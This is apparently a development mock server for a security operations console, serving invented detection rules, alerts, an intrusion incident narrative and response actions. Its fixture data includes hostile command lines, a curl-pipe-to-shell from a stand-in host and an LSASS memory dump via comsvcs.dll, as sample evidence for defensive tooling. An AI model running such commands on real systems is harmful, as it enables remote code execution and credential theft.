// A stand-in for the server, for looking at the console while it is being built: small invented data, the real paths.
// It serves the built console under the same content security policy as the binary. Never part of a build.
import { randomBytes } from "node:crypto";
import { readFileSync, existsSync } from "node:fs";
import { createServer } from "node:http";
import { extname, join } from "node:path";

const dist = join(import.meta.dirname, "../../dist");
const port = Number(process.env.PORT ?? 8099);
const big = Number(process.env.BIG ?? 0);
const empty = process.env.EMPTY === "1";
const now = Date.now();
const at = (minutes) => new Date(now - minutes * 60_000).toISOString();
const zero = (v = 0) => Array.from({ length: v });

const rule = (id, title, severity, tactics, techniques, fired) => ({
  id, title, description: "Watches for it.", author: "Vedette", license: "Apache-2.0", severity, status: "stable", tags: ["attack." + tactics[0]], tactics, techniques, product: "linux", category: "", service: "sshd",
  kind: "rule", level: severity, state: "live", stage: "alert", origin: "starter", file: `linux/${id}.yml`, fired, fired_days: zero(30).map((_, i) => (i > 26 ? Math.round(fired / 3) : i % 7 === 0 ? 1 : 0)), last_fired: fired ? at(20) : undefined,
  source: `title: ${title}\nid: ${id}\nlevel: ${severity}\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  selection:\n    event.outcome: failure\n    user.name|startswith: 'root'\n  condition: selection\n`,
});
const rules = [
  rule("ssh-password-guessing", "SSH password guessing from one address", "medium", ["credential-access"], ["T1110.001"], 412),
  rule("port-scan", "Many ports of one host tried in a minute", "low", ["reconnaissance"], ["T1046"], 61),
  rule("ssh-success-after-guessing", "Login succeeded after many failures", "high", ["initial-access"], ["T1078"], 1),
  rule("tool-download", "Script fetched and run by a shell", "high", ["execution"], ["T1059.004"], 2),
  rule("lsass-dump", "Memory of LSASS read through comsvcs.dll", "critical", ["credential-access"], ["T1003.001"], 1),
  rule("smb-lateral", "Service installed from another host over SMB", "high", ["lateral-movement"], ["T1021.002"], 3),
  rule("big-upload", "Unusually large upload to a rare destination", "critical", ["exfiltration"], ["T1048"], 1),
  ...zero(60).map((_, i) => rule(`starter-${i}`, `Starter rule number ${i + 1} about something suspicious`, ["low", "medium", "high"][i % 3], [["persistence", "discovery", "defense-evasion"][i % 3]], ["T1053.003"], i % 9 === 0 ? i : 0)),
  { ...rule("broken", "Rule that cannot run", "high", ["impact"], ["T1486"], 0), state: "rejected", problem: "linux/broken.yml line 14: the modifier |fieldref needs a field name" },
];

const E = { att: { kind: "address", name: "203.0.113.9", role: "actor" }, web: { kind: "host", name: "web-01", role: "target" }, dep: { kind: "user", name: "deploy", role: "target" }, ws: { kind: "host", name: "ws-17", role: "target" }, db: { kind: "host", name: "db-02", role: "target" }, sh: { kind: "process", name: "/usr/bin/curl", role: "object" }, drop: { kind: "address", name: "198.51.100.77", role: "object" }, dll: { kind: "file", name: "C:\\Windows\\Temp\\lsass.dmp", role: "object" }, webActor: { kind: "address", name: "10.0.4.11", role: "actor" } };
const alert = (n, ruleId, minutes, entities, matched) => {
  const r = rules.find((x) => x.id === ruleId);
  return { id: `a${n}`, tenant: "default", time: at(minutes), received: at(minutes), detected: at(minutes), rule_id: r.id, rule_title: r.title, severity: r.severity, tags: r.tags, tactics: r.tactics, techniques: r.techniques, event_id: `1042-${n}`, source: "syslog/10.0.4.11", dataset: "linux.sshd", matched, selections: ["selection"], entities, incident_id: "INC-2041" };
};
const evidence = [
  [1, "port-scan", 190, [E.att, E.web], { "source.ip": "203.0.113.9", "destination.port": "22" }, 61, "203.0.113.9 tried 61 ports of web-01", "203.0.113.9 扫描了 web-01 的 61 个端口"],
  [2, "ssh-password-guessing", 182, [E.att, E.web, E.dep], { "source.ip": "203.0.113.9", "event.outcome": "failure" }, 412, "412 failed SSH logins on web-01 from 203.0.113.9", "203.0.113.9 在 web-01 上 SSH 登录失败 412 次"],
  [3, "ssh-success-after-guessing", 170, [E.att, E.web, E.dep], { "source.ip": "203.0.113.9", "user.name": "deploy", "event.outcome": "success" }, 1, "deploy logged in to web-01 from 203.0.113.9", "deploy 从 203.0.113.9 登录 web-01 成功"],
  [4, "tool-download", 165, [E.web, E.dep, E.sh], { "process.command_line": "curl -s http://198.51.100.77/x.sh | sh" }, 2, "curl fetched a script and ran it on web-01", "web-01 上 curl 下载并执行了脚本"],
  [5, "lsass-dump", 120, [E.webActor, E.ws, E.dll], { "process.command_line": "rundll32.exe comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full" }, 1, "Memory of LSASS was written to a file on ws-17", "ws-17 上 LSASS 内存被转储到文件"],
  [6, "smb-lateral", 95, [E.webActor, E.db], { "winlog.event_id": "7045" }, 3, "A service was installed on db-02 from ws-17", "从 ws-17 在 db-02 上安装了服务"],
  [7, "big-upload", 40, [E.db, E.drop], { "destination.ip": "198.51.100.77", "source.bytes": "4831838208" }, 1, "db-02 sent 4.5 GiB to 198.51.100.77", "db-02 向 198.51.100.77 发送了 4.5 GiB 数据"],
].map(([number, r, m, e, matched, count, en, zh]) => ({ number, alert: alert(number, r, m, e, matched), count, text: { en, zh } }));

const reasons = [["stages", 34, "Six stages of the kill chain, in order", "按顺序出现杀伤链的六个阶段"], ["severity", 25, "Two critical rules fired", "触发了两条严重规则"], ["success", 18, "A guessed password worked", "猜测的密码登录成功"], ["asset", 12, "db-02 holds important data", "db-02 存有重要数据"], ["breadth", 8, "Three hosts of ours are concerned", "涉及我方三台主机"]].map(([code, points, en, zh]) => ({ code, points, text: { en, zh } }));
const main = {
  id: "INC-2041", tenant: "default", title: { en: "Password guessing led to theft from db-02", zh: "密码猜测得手，db-02 数据被窃" },
  story: { en: "203.0.113.9 scanned web-01 [1], guessed SSH passwords 412 times [2] and logged in as deploy [3]. Six minutes later curl fetched a script and ran it [4]. From there the attacker read the memory of LSASS on ws-17 [5], installed a service on db-02 [6], and db-02 sent 4.5 GiB to 198.51.100.77 [7].", zh: "203.0.113.9 扫描了 web-01 [1]，随后猜测 SSH 密码 412 次 [2]，并以 deploy 身份登录成功 [3]。六分钟后 curl 下载并执行了脚本 [4]。攻击者随后在 ws-17 上读取 LSASS 内存 [5]，在 db-02 上安装服务 [6]，最后 db-02 向 198.51.100.77 发送了 4.5 GiB 数据 [7]。" },
  status: "open", severity: "critical", score: 97, reasons, entities: [E.att, E.web, E.dep, E.ws, E.db, E.drop, E.sh, E.dll], tactics: ["reconnaissance", "initial-access", "execution", "credential-access", "lateral-movement", "exfiltration"], alerts: 481,
  rules: evidence.map((e) => ({ rule_id: e.alert.rule_id, title: e.alert.rule_title, severity: e.alert.severity, tactics: e.alert.tactics, count: e.count, first: e.alert.time, last: e.alert.time })), evidence, first: at(190), last: at(40), created: at(182), updated: at(38), detected: at(190), version: 7,
};
const quiet = (n, title, zh, severity, score, status, tactics, alerts, entities, owner) => ({ ...main, id: `INC-${n}`, title: { en: title, zh }, severity, score, status, tactics, alerts, entities, owner, evidence: [], reasons: [{ code: "severity", points: Math.round(score * 0.7), text: { en: "Severity of the rules", zh: "规则等级" } }, { code: "breadth", points: score - Math.round(score * 0.7), text: { en: "Entities concerned", zh: "涉及实体" } }], first: at(n % 900), last: at(n % 300), created: at(n % 900), updated: at(n % 900), rules: main.rules.slice(0, 1) });
const incidents = empty ? [] : [main,
  quiet(2040, "Web shell tried on shop-01", "shop-01 遭遇 WebShell 尝试", "high", 71, "working", ["initial-access", "persistence"], 88, [{ kind: "address", name: "192.0.2.55", role: "actor" }, { kind: "host", name: "shop-01", role: "target" }], "lin.wei"),
  quiet(2039, "Suspicious PowerShell on ws-08", "ws-08 上出现可疑 PowerShell", "high", 64, "open", ["execution", "defense-evasion"], 12, [{ kind: "host", name: "ws-08", role: "target" }, { kind: "user", name: "ACME\\j.doe", role: "actor" }]),
  quiet(2038, "SSH guessing against bastion-01, none succeeded", "针对 bastion-01 的 SSH 密码猜测，均未成功", "medium", 38, "open", ["credential-access"], 12_402, [{ kind: "address", name: "198.51.100.4", role: "actor" }, { kind: "host", name: "bastion-01", role: "target" }]),
  quiet(2037, "New cloud access key created outside hours", "非工作时间创建云访问密钥", "medium", 35, "contained", ["persistence"], 1, [{ kind: "cloud_account", name: "123456789012", role: "target" }, { kind: "user", name: "ops-bot", role: "actor" }], "admin"),
  quiet(2036, "Port scan from the office network", "来自办公网的端口扫描", "low", 14, "open", ["discovery"], 240, [{ kind: "address", name: "10.0.9.21", role: "actor" }]),
  ...zero(big).map((_, i) => quiet(3000 + i, `Invented incident ${i} for looking at long lists`, `用于查看长列表的虚构事件 ${i}`, ["low", "medium", "high"][i % 3], 60 - (i % 60), "open", ["execution", "discovery"].slice(0, 1 + (i % 2)), i % 900, main.entities.slice(0, 1 + (i % 5)))),
];
const actions = empty ? [] : [
  { id: "ACT-7", tenant: "default", kind: "block_address", target: "203.0.113.9", actuator: "nftables", state: "proposed", automatic: false, dry_run: false, ttl_seconds: 3600, reason: "Guessed a password and logged in", owner: "rule:ssh-success-after-guessing", incident_id: "INC-2041", undo: "The element is taken out of the set; it also ends by itself", verified: { holds: false }, created: at(3), version: 1 },
  { id: "ACT-6", tenant: "default", kind: "block_address", target: "198.51.100.77", actuator: "nftables", state: "active", automatic: false, dry_run: false, ttl_seconds: 14400, reason: "Receives stolen data", owner: "lin.wei", approved_by: "admin", incident_id: "INC-2041", undo: "The element is taken out of the set", verified: { time: at(1), holds: true, detail: "in set blocked_v4" }, created: at(33), applied: at(32), expires: new Date(now + 208 * 60_000).toISOString(), version: 3 },
];
const raw = (n) => `Nov 23 09:02:${String(n % 60).padStart(2, "0")} web-01 sshd[3121]: Failed password for deploy from 203.0.113.9 port ${40000 + n} ssh2`;
const event = (n) => ({ id: `1042-${n}`, time: at(n * 0.4), received: at(n * 0.4), source: "syslog/10.0.4.11", dataset: "linux.sshd", message: raw(n), fields: { "event.outcome": "failure", "source.ip": "203.0.113.9", "source.port": String(40000 + n), "user.name": "deploy", "host.name": "web-01", "process.name": "sshd", "event.category": "authentication", "vedette.source": "syslog/10.0.4.11" } });
const source = (name, receiver, state, rate, extra = {}) => ({ name, tenant: "default", receiver, peer: "10.0.4.11:51422", state, first: at(3000), last: at(state === "silent" ? 46 : 0.05), records: 812_332, bytes: 412_332_112, events: 812_332, failures: 0, dropped: {}, datasets: { "linux.sshd": 700_000, "linux.auth": 112_332 }, lag_ms: 84, skew_seconds: 0, rate: zero(60).map((_, i) => (state === "silent" && i > 14 ? 0 : rate * (0.7 + Math.abs(Math.sin(i / 5)) * 0.6))), samples: [], ...extra });
const sources = empty ? [] : [source("syslog/10.0.4.11", "syslog", "well", 41), source("http/ws-17", "http", "well", 12, { datasets: { "windows.sysmon": 80_000, "windows.security": 9000 } }), source("syslog/fw-east", "syslog", "silent", 310, { datasets: { "firewall.iptables": 2_000_000 } }), source("elasticsearch/filebeat", "elasticsearch", "quiet", 3), source("http/erp", "http", "failing", 9, { failures: 211_003, dropped: { too_large: 12 }, samples: [{ time: at(1), reason: "not JSON: unexpected end of input at byte 312", raw: '{"time":"2026-11-23T09:02:11Z","user":"张伟","msg":"订单', count: 211_000 }] })];
const sev = () => ({ info: 0, low: Math.round(Math.random() * 2), medium: Math.round(Math.random() * 2), high: Math.random() > 0.8 ? 1 : 0, critical: 0 });
const byHour = zero(24).map((_, i) => ({ time: new Date(Math.floor(now / 3_600_000) * 3_600_000 - (23 - i) * 3_600_000).toISOString(), ...sev(), critical: i === 20 ? 1 : 0 }));
const status = [["journal", 1], ["eventstore", 1], ["statestore", 1], ["detect", 1], ["triage", 1], ["respond", 0]].map(([room, ok]) => ({ room, ready: !!ok, ...(ok ? {} : { reason: "not root: nftables is in dry-run" }) }));
const testResult = { matched: false, applies: true, first_failed: "selection: user.name startswith root — found deploy", selections: [{ name: "selection", matched: false, fields: [{ field: "event.outcome", op: "equals", expected: "failure", actual: "failure", matched: true }, { field: "user.name", op: "startswith", expected: "root", actual: "deploy", matched: false }] }] };

const clients = new Set();
const routes = {
  "GET /session": () => ({ name: "admin", role: "admin", tenant: "default", must_change_password: false, permissions: ["read", "write", "respond", "admin"] }),
  "GET /today": () => (empty ? { since: at(1440), incidents: { open: 0, working: 0, contained: 0, closed: 0, by_severity: { info: 0, low: 0, medium: 0, high: 0, critical: 0 } }, needs_you: [], approvals: { waiting: 0 }, records: 0, events: 0, alerts: 0, folded_percent: 0, by_hour: [], ingest: { rate: 0, lag_ms: 0, parse_failures: 0, dropped: 0, journal_bytes: 0, journal_limit: 2 ** 33, backlog: 0 }, silent: [], status } : { since: at(1440), incidents: { open: 4, working: 1, contained: 1, closed: 9, by_severity: { info: 0, low: 1, medium: 2, high: 2, critical: 1 } }, needs_you: incidents.slice(0, 4), approvals: { waiting: 1, oldest: at(3) }, records: 3_104_882, events: 3_104_880, alerts: 41_207, folded_percent: 99.9712, detect_p50_ms: 184, respond_p50_ms: 41_000, by_hour: byHour, ingest: { rate: 375.4, lag_ms: 84, parse_failures: 211_003, dropped: 12, journal_bytes: 311_000_000, journal_limit: 2 ** 33, backlog: 0 }, silent: ["syslog/fw-east"], status }),
  "GET /incidents": (q) => { const from = Number(q.get("cursor") ?? 0); const limit = Number(q.get("limit") ?? 50); const wanted = (q.get("status") ?? "").split(",").filter(Boolean); const all = incidents.filter((i) => !wanted.length || wanted.includes(i.status)).filter((i) => !q.get("q") || i.title.en.toLowerCase().includes(q.get("q").toLowerCase())); return { items: all.slice(from, from + limit).map((i) => ({ ...i, evidence: [] })), next: from + limit < all.length ? String(from + limit) : undefined, total: all.length }; },
  "GET /actions": (q) => { const s = (q.get("state") ?? "").split(",").filter(Boolean); const items = actions.filter((a) => !s.length || s.includes(a.state)); return { items, total: items.length }; },
  "GET /rules": () => ({ items: rules.map((r) => ({ ...r, source: undefined })), total: rules.length }),
  "POST /rules/test": () => testResult,
  "GET /sources": () => ({ items: sources, total: sources.length }),
  "GET /sources/setup": () => ({ items: [{ client: "rsyslog-tcp", title: "rsyslog over TCP", file: "/etc/rsyslog.d/90-vedette.conf", syntax: "text", config: '*.* action(type="omfwd" target="10.0.4.2" port="5514" protocol="tcp"\n  TCP_Framing="octet-counted" queue.type="LinkedList" queue.size="100000")\n', docs: "https://www.rsyslog.com/doc/", token: false }, { client: "curl", title: "HTTP with curl", syntax: "shell", config: "curl -H 'Authorization: Bearer YOUR_TOKEN' --data-binary @events.ndjson http://10.0.4.2:8080/ingest/v1/events\n", docs: "https://curl.se/docs/", token: true }] }),
  "GET /events": () => ({ items: zero(400).map((_, i) => event(i)), took_ms: 7 }),
  "GET /events/histogram": () => ({ items: zero(60).map((_, i) => ({ time: new Date(now - (60 - i) * 1_440_000).toISOString(), rows: Math.round(300 + 260 * Math.sin(i / 6) + (i === 44 ? 900 : 0)) })), total: 41_207, took_ms: 4 }),
  "GET /events/fields": () => ({ items: ["host.name", "event.category", "source.ip", "user.name", "event.outcome", "process.name", "source.port", "process.command_line", "destination.ip", "dns.question.name"].map((name, i) => ({ name, rows: 41_207 - i * 3900, share: 1 - i * 0.094 })), took_ms: 5 }),
  "GET /events/values": () => ({ items: [["203.0.113.9", 21_000], ["10.0.4.11", 9000], ["10.0.9.21", 800], ["192.0.2.55", 88]].map(([value, rows]) => ({ value, rows })), took_ms: 3 }),
  "GET /alerts": () => ({ items: evidence.map((e) => e.alert) }),
  "GET /entities": () => ({ items: [], total: 0 }),
};
function answer(method, path, q, body) {
  const exact = routes[`${method} ${path}`];
  if (exact) return exact(q, body);
  const [, room, id, sub] = path.split("/");
  if (room === "incidents") {
    if (path === "/incidents/batch") return { items: body.ids.map((x) => ({ id: x, incident: { ...incidents.find((i) => i.id === x), ...body.edit } })), changed: body.ids.length, failed: 0 };
    const one = incidents.find((i) => i.id === id);
    if (!one) return undefined;
    if (sub === "notes") return { items: [{ id: "n1", incident_id: id, time: at(20), who: "lin.wei", text: "Called the owner of web-01: nobody should log in as deploy from outside." }] };
    if (sub === "log") return { items: [{ id: "l1", tenant: "default", time: at(21), who: "lin.wei", from: "10.0.9.3", what: "incident.update", object: id, detail: "owner: lin.wei", failed: false }] };
    if (method === "PATCH") Object.assign(one, body, { version: one.version + 1 });
    return one;
  }
  if (room === "alerts") { const e = evidence.find((x) => x.alert.id === id); return e && { alert: e.alert, event: { ...event(e.number), fields: { ...event(e.number).fields, ...e.alert.matched } } }; }
  if (room === "events") return event(Number(id.split("-")[1]));
  if (room === "rules") return rules.find((r) => r.id === id);
  if (room === "actions" && method === "POST") { const a = actions.find((x) => x.id === id) ?? { ...actions[0], id: "ACT-8", ...body }; if (sub) a.state = { approve: "active", reject: "rejected", undo: "undone" }[sub]; return a; }
  if (room === "entities") return { kind: id, name: decodeURIComponent(sub), tenant: "default", first: at(9000), last: at(40), alerts: 474, incidents: 1, severity: "high", internal: false, protected: false };
  return undefined;
}
const types = { ".js": "text/javascript", ".css": "text/css", ".svg": "image/svg+xml", ".html": "text/html" };
createServer((req, res) => {
  const url = new URL(req.url, "http://x");
  if (url.pathname === "/api/v1/stream") {
    res.writeHead(200, { "Content-Type": "text/event-stream" });
    res.write(": hello\n\n");
    clients.add(res);
    req.on("close", () => clients.delete(res));
    return;
  }
  if (url.pathname.startsWith("/api/v1")) {
    let text = "";
    req.on("data", (d) => (text += d));
    req.on("end", () => {
      const result = answer(req.method, decodeURIComponent(url.pathname.slice(7)), url.searchParams, text && /json/.test(req.headers["content-type"] ?? "") ? JSON.parse(text) : undefined);
      res.writeHead(result ? 200 : 404, { "Content-Type": result ? "application/json" : "application/problem+json" });
      res.end(JSON.stringify(result ?? { code: "not_found", title: "Not found", detail: "There is no such thing.", status: 404 }));
    });
    return;
  }
  const file = join(dist, url.pathname);
  if (extname(file) && existsSync(file)) {
    res.writeHead(200, { "Content-Type": types[extname(file)] ?? "application/octet-stream" });
    res.end(readFileSync(file));
    return;
  }
  const nonce = randomBytes(16).toString("base64");
  res.writeHead(200, { "Content-Type": "text/html; charset=utf-8", "Content-Security-Policy": `default-src 'none'; script-src 'self'; style-src 'self' 'nonce-${nonce}'; style-src-attr 'unsafe-inline'; img-src 'self' data:; font-src 'self'; connect-src 'self'; manifest-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'` });
  res.end(readFileSync(join(dist, "index.html"), "utf8").replace("__CSP_NONCE__", nonce));
}).listen(port, "127.0.0.1", () => console.log(`http://127.0.0.1:${port}`));
if (process.env.LIVE) setInterval(() => {
  const i = { ...main, id: `INC-${Date.now() % 100000}`, created: new Date().toISOString(), updated: new Date().toISOString(), version: 1, evidence: [] };
  for (const c of clients) c.write(`id: ${Date.now()}\nevent: incident\ndata: ${JSON.stringify(i)}\n\n`);
}, 3000);
